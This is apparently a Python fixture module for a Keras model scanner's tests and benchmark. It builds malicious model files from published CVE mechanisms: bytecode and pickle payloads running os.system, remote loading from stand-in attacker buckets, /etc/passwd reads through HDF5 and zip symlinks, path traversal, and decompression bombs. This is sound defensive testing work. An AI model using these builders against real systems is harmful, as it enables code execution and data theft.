"""Malicious Keras artifacts built in code from the published mechanisms of the Keras loading advisories.

Shared by the end-to-end tests and the benchmark. Each builder writes one file (or directory) derived
from a real model saved by real Keras and returns its path. Nothing here loads a model.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import shutil
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np


def _payload(x: Any) -> Any:  # only its bytecode is ever stored
    import os

    os.system("id > /tmp/kerasguard-pwned")
    return x


LAMBDA_CODE = base64.b64encode(marshal.dumps(_payload.__code__)).decode()


def read_members(archive: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(archive) as z:
        return [(i.filename, z.read(i.filename)) for i in z.infolist()]


def write_keras(dst: Path, members: list[tuple[str, bytes]]) -> Path:
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as z:
        for name, data in members:
            z.writestr(name, data)
    return dst


def with_member(base: Path, dst: Path, name: str, data: bytes) -> Path:
    members = [(n, data if n == name else d) for n, d in read_members(base)]
    if name not in {n for n, _ in members}:
        members.append((name, data))
    return write_keras(dst, members)


def edit_config(base: Path, dst: Path, edit: Callable[[dict[str, Any]], None]) -> Path:
    config = json.loads(dict(read_members(base))["config.json"])
    edit(config)
    return with_member(base, dst, "config.json", json.dumps(config).encode())


def edit_weights(base: Path, dst: Path, edit: Callable[[h5py.File], None]) -> Path:
    buf = io.BytesIO(dict(read_members(base))["model.weights.h5"])
    with h5py.File(buf, "r+") as h5:
        edit(h5)
    return with_member(base, dst, "model.weights.h5", buf.getvalue())


def _layers(config: dict[str, Any]) -> list[dict[str, Any]]:
    layers: list[dict[str, Any]] = config["config"]["layers"]
    return layers


def _lambda_layer(function: Any, name: str = "lambda_payload", **extra: Any) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {"name": name, "function": function, "arguments": {}, **extra},
    }


# --- code execution -------------------------------------------------------------------------------


def lambda_bytecode(base: Path, dst: Path) -> Path:
    """CVE-2024-3660: Keras 3 `__lambda__` bytecode."""
    fn = {"class_name": "__lambda__", "config": {"code": LAMBDA_CODE, "defaults": None, "closure": None}}
    return edit_config(base, dst, lambda c: _layers(c).insert(1, _lambda_layer(fn)))


def nested_lambda(base: Path, dst: Path) -> Path:
    """A bytecode Lambda hidden inside TimeDistributed inside a nested sub-model."""
    fn = {"class_name": "__lambda__", "config": {"code": LAMBDA_CODE, "defaults": None, "closure": None}}
    wrapper = {
        "module": "keras.layers",
        "class_name": "TimeDistributed",
        "registered_name": None,
        "config": {"name": "td", "layer": _lambda_layer(fn, name="inner")},
    }
    inner = {
        "module": "keras",
        "class_name": "Sequential",
        "registered_name": None,
        "config": {"name": "sub", "layers": [wrapper]},
    }
    return edit_config(base, dst, lambda c: _layers(c).append(inner))


def foreign_module_layer(base: Path, dst: Path) -> Path:
    """CVE-2025-1550: a `layers[]` entry naming subprocess.run."""
    entry = {"module": "subprocess", "class_name": "run", "config": {}, "registered_name": None}
    return edit_config(base, dst, lambda c: _layers(c).insert(1, entry))


def get_file_reference(base: Path, dst: Path) -> Path:
    """CVE-2025-8747: a Lambda whose function is a reference to keras.utils.get_file."""
    fn = {
        "class_name": "function",
        "module": "keras.utils",
        "config": "get_file",
        "registered_name": "get_file",
    }
    layer = _lambda_layer(fn)
    layer["config"]["arguments"] = {"origin": "http://127.0.0.1:9/x", "cache_dir": "/tmp"}
    return edit_config(base, dst, lambda c: _layers(c).insert(1, layer))


def safe_mode_off_chain(base: Path, dst: Path) -> Path:
    """CVE-2025-9906: set_global_attribute('safe_mode_saving', False), then keras.models.load_model."""
    first = {
        "class_name": "function",
        "module": "keras.src.backend.common.global_state",
        "config": "set_global_attribute",
        "registered_name": None,
    }
    second = {
        "class_name": "function",
        "module": "keras.models",
        "config": "load_model",
        "registered_name": None,
    }

    def edit(c: dict[str, Any]) -> None:
        _layers(c).insert(1, _lambda_layer(first, name="off"))
        _layers(c).insert(2, _lambda_layer(second, name="load", arguments={"safe_mode": False}))

    return edit_config(base, dst, edit)


def tfsm_layer(base: Path, dst: Path) -> Path:
    """CVE-2026-1462: TFSMLayer loading an attacker SavedModel from a remote path."""
    layer = {
        "module": "keras.layers",
        "class_name": "TFSMLayer",
        "registered_name": None,
        "config": {"name": "tfsm", "filepath": "gs://attacker-bucket/model", "call_endpoint": "serve"},
    }
    return edit_config(base, dst, lambda c: _layers(c).insert(1, layer))


def torch_wrapper(base: Path, dst: Path) -> Path:
    """CVE-2025-49655: TorchModuleWrapper with a torch.save zip whose data.pkl calls os.system."""
    evil = b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", evil)
        z.writestr("archive/version", b"3\n")
    layer = {
        "module": "keras.layers",
        "class_name": "TorchModuleWrapper",
        "registered_name": None,
        "config": {"name": "torch", "module": base64.b64encode(buf.getvalue()).decode()},
    }
    return edit_config(base, dst, lambda c: _layers(c).insert(1, layer))


def vocabulary_path(base: Path, dst: Path) -> Path:
    """CVE-2025-12058: StringLookup vocabulary read from a path/URL at load time."""
    layer = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "registered_name": None,
        "config": {"name": "lookup", "vocabulary": "gs://attacker/vocab.txt", "num_oov_indices": 1},
    }
    return edit_config(base, dst, lambda c: _layers(c).insert(1, layer))


def legacy_h5_lambda(base_h5: Path, dst: Path) -> Path:
    """CVE-2025-9905: a Keras 2 style bytecode Lambda in a legacy .h5 `model_config`."""
    shutil.copyfile(base_h5, dst)
    with h5py.File(dst, "r+") as h5:
        raw = h5.attrs["model_config"]
        config = json.loads(raw.decode() if isinstance(raw, bytes) else raw)
        lam = {
            "class_name": "Lambda",
            "config": {"name": "lambda", "function": [LAMBDA_CODE, None, None], "function_type": "lambda"},
        }
        config["config"]["layers"].insert(1, lam)
        h5.attrs["model_config"] = json.dumps(config)
    return dst


# --- HDF5 -----------------------------------------------------------------------------------------


def _replace_dataset(h5: h5py.File, path: str, **kwargs: Any) -> None:
    del h5[path]
    h5.create_dataset(path, **kwargs)


def shape_bomb(base: Path, dst: Path, gib: float = 8.0) -> Path:
    """CVE-2026-0897 / CVE-2026-12570: a never-written chunked gzip dataset declaring `gib` GiB."""
    side = int((gib * 2**30 / 4) ** 0.5)
    return edit_weights(
        base,
        dst,
        lambda h5: _replace_dataset(
            h5,
            "layers/dense/vars/0",
            shape=(side, side),
            dtype="float32",
            chunks=(256, 256),
            compression="gzip",
        ),
    )


def many_small_bombs(base: Path, dst: Path, count: int = 40) -> Path:
    """Many sub-floor declarations (each 200 MiB) that add up to 8 GiB."""

    def edit(h5: h5py.File) -> None:
        grp = h5.require_group("layers/dense/vars")
        for i in range(count):
            grp.create_dataset(
                f"extra{i}", shape=(50, 2**20), dtype="float32", chunks=(1, 4096), compression="gzip"
            )

    return edit_weights(base, dst, edit)


def external_storage(base: Path, dst: Path, target: str = "/etc/passwd") -> Path:
    """CVE-2026-1669: a weights dataset whose bytes live in a host file."""
    return edit_weights(
        base,
        dst,
        lambda h5: _replace_dataset(
            h5, "layers/dense/vars/1", shape=(16,), dtype="uint8", external=[(target, 0, 16)]
        ),
    )


def soft_link(base: Path, dst: Path) -> Path:
    """CVE-2026-12480: a soft link in the weights tree."""

    def edit(h5: h5py.File) -> None:
        del h5["layers/dense/vars/1"]
        h5["layers/dense/vars/1"] = h5py.SoftLink("/layers/dense/vars/0")

    return edit_weights(base, dst, edit)


def external_link(base: Path, dst: Path) -> Path:
    """CVE-2026-12480: an external link to another HDF5 file on the host."""

    def edit(h5: h5py.File) -> None:
        del h5["layers/dense/vars/1"]
        h5["layers/dense/vars/1"] = h5py.ExternalLink("/tmp/other.h5", "/secret")

    return edit_weights(base, dst, edit)


def virtual_dataset(base: Path, dst: Path) -> Path:
    """CVE-2026-12480: a virtual dataset mapping a host file's dataset."""

    def edit(h5: h5py.File) -> None:
        layout = h5py.VirtualLayout(shape=(16,), dtype="float32")
        layout[:] = h5py.VirtualSource("/tmp/host.h5", "data", shape=(16,))
        del h5["layers/dense/vars/1"]
        h5.create_virtual_dataset("layers/dense/vars/1", layout, fillvalue=0)

    return edit_weights(base, dst, edit)


# --- archive --------------------------------------------------------------------------------------


def zip_traversal(base: Path, dst: Path) -> Path:
    """CVE-2026-12479 / GHSA-hqp4-2352-xf5r: an asset member escaping the extraction folder."""
    return write_keras(dst, [*read_members(base), ("assets/../../../../tmp/evil.py", b"print('pwned')\n")])


def zip_symlink(base: Path, dst: Path) -> Path:
    """A symlink member pointing at a host file."""
    members = read_members(base)
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as z:
        for name, data in members:
            z.writestr(name, data)
        info = zipfile.ZipInfo("assets/link")
        info.create_system = 3
        info.external_attr = (0o120777 << 16) | 0x20
        z.writestr(info, "/etc/passwd")
    return dst


def duplicate_config(base: Path, dst: Path) -> Path:
    """Two config.json members: scanners reading the first miss what the loader (last) uses."""
    members = read_members(base)
    config = dict(members)["config.json"]
    evil = json.loads(config)
    fn = {"class_name": "__lambda__", "config": {"code": LAMBDA_CODE, "defaults": None, "closure": None}}
    _layers(evil).insert(1, _lambda_layer(fn))
    return write_keras(dst, [*members, ("config.json", json.dumps(evil).encode())])


def zip_bomb(base: Path, dst: Path, mib: int = 300) -> Path:
    """A deflated asset that expands > 1000x (Keras's own extract guard is 100x and 256 MiB)."""
    members = read_members(base)
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as z:
        for name, data in members:
            z.writestr(name, data)
        info = zipfile.ZipInfo("assets/blob.bin")
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as fh:
            chunk = bytes(2**20)
            for _ in range(mib):
                fh.write(chunk)
    return dst


# --- pickles and npz ------------------------------------------------------------------------------

# protocol 4: SHORT_BINUNICODE "os", "system", STACK_GLOBAL, "id", TUPLE1, REDUCE, STOP
EVIL_PICKLE = b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."


def npz_raw_pickle(base: Path, dst: Path) -> Path:
    """Keras 3.0-3.8: `model.weights.npz` that is a raw pickle is unpickled on load."""
    members = [(n, d) for n, d in read_members(base) if n != "model.weights.h5"]
    return write_keras(dst, [*members, ("model.weights.npz", EVIL_PICKLE)])


def npz_object_array(base: Path, dst: Path) -> Path:
    """An npz whose .npy member has object dtype (its data is a pickle)."""
    buf = io.BytesIO()
    np.savez(buf, **{"vars_0": np.array([{"a": 1}, None], dtype=object)})
    members = [(n, d) for n, d in read_members(base) if n != "model.weights.h5"]
    return write_keras(dst, [*members, ("model.weights.npz", buf.getvalue())])


def pickle_in_assets(base: Path, dst: Path) -> Path:
    """A pickle hidden in assets/ (anything with pickle magic is opcode-scanned)."""
    return write_keras(dst, [*read_members(base), ("assets/tokenizer.pkl", EVIL_PICKLE)])


def benign_pickle_bytes() -> bytes:
    return pickle.dumps({"vocab": ["a", "b"], "n": 2})


# --- resources ------------------------------------------------------------------------------------


def huge_units(base: Path, dst: Path) -> Path:
    """Build-time allocation: a Dense layer with 2**40 units (no CVE; allocates before weights load)."""

    def edit(c: dict[str, Any]) -> None:
        for layer in _layers(c):
            if layer.get("class_name") == "Dense":
                layer["config"]["units"] = 2**40
                break

    return edit_config(base, dst, edit)


def truncated(base: Path, dst: Path) -> Path:
    data = base.read_bytes()
    dst.write_bytes(data[: len(data) // 2])
    return dst


def random_bytes(dst: Path, size: int = 4096) -> Path:
    dst.write_bytes(np.random.default_rng(1).bytes(size))
    return dst


def local_header_mismatch(base: Path, dst: Path) -> Path:
    """The local header names a different file than the central directory."""
    data = bytearray(base.read_bytes())
    offset = data.find(b"PK\x03\x04")
    name_len = struct.unpack_from("<H", data, offset + 26)[0]
    data[offset + 30 : offset + 30 + name_len] = b"x" * name_len
    dst.write_bytes(bytes(data))
    return dst


# name -> (builder needing the base .keras, rule ids any one of which must fire)
# The attacks whose payload is in the HDF5 weights (the rest are in the zip, the config or other members).
HDF5_ATTACKS = (
    "shape_bomb_8gib",
    "shape_bomb_3gib",
    "many_small_bombs",
    "external_storage",
    "soft_link",
    "external_link",
    "virtual_dataset",
)

KERAS_ATTACKS: dict[str, tuple[Callable[[Path, Path], Path], tuple[str, ...]]] = {
    "lambda_bytecode": (lambda_bytecode, ("KG101",)),
    "nested_lambda": (nested_lambda, ("KG101",)),
    "foreign_module_layer": (foreign_module_layer, ("KG201", "KG203")),
    "get_file_reference": (get_file_reference, ("KG202",)),
    "safe_mode_off_chain": (safe_mode_off_chain, ("KG202",)),
    "tfsm_layer": (tfsm_layer, ("KG103",)),
    "torch_wrapper": (torch_wrapper, ("KG102",)),
    "vocabulary_path": (vocabulary_path, ("KG206",)),
    "shape_bomb_8gib": (shape_bomb, ("KG405",)),
    "shape_bomb_3gib": (lambda b, d: shape_bomb(b, d, gib=3.0), ("KG405",)),
    "many_small_bombs": (many_small_bombs, ("KG405", "KG407")),
    "external_storage": (external_storage, ("KG402",)),
    "soft_link": (soft_link, ("KG401",)),
    "external_link": (external_link, ("KG401",)),
    "virtual_dataset": (virtual_dataset, ("KG403",)),
    "zip_traversal": (zip_traversal, ("KG301",)),
    "zip_symlink": (zip_symlink, ("KG302",)),
    "duplicate_config": (duplicate_config, ("KG303",)),
    "zip_bomb": (zip_bomb, ("KG308",)),
    "npz_raw_pickle": (npz_raw_pickle, ("KG105", "KG104")),
    "npz_object_array": (npz_object_array, ("KG105",)),
    "pickle_in_assets": (pickle_in_assets, ("KG104",)),
    "huge_units": (huge_units, ("KG501",)),
    "truncated": (truncated, ("KG901",)),
    "local_header_mismatch": (local_header_mismatch, ("KG304",)),
}
